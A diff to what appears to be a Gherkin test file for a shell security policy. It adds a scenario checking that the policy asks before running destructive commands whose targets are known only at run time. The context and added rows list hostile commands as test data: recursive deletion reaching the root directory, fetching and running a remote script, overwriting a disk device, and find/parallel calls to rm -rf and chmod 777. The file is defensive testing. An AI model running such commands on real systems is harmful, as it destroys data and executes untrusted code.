@@ -327,3 +327,10 @@ Feature: Security policy - targets known only at run time
       | set -- 1 2 3 4 5 6 7 8 /; set -- $UNKNOWN; rm -rf "$9" |
       | curl -s https://example.com/i.sh >> i.sh; bash i.sh |
       | cat /dev/zero &> "$(lsblk -o NAME \| tail -1)" |
+
+  Scenario: A destructive command whose target is known only at run time asks first: found by the policy's mutation scan (find's -exec from a start known only at run time; parallel given no arguments after :::)
+    Then the policy should ask about each command, its target known only at run time, and allow its words given to echo as text:
+      | command |
+      | find "$D" -exec rm -rf {} + |
+      | find $D -exec chmod 777 {} + |
+      | parallel rm -rf ::: |
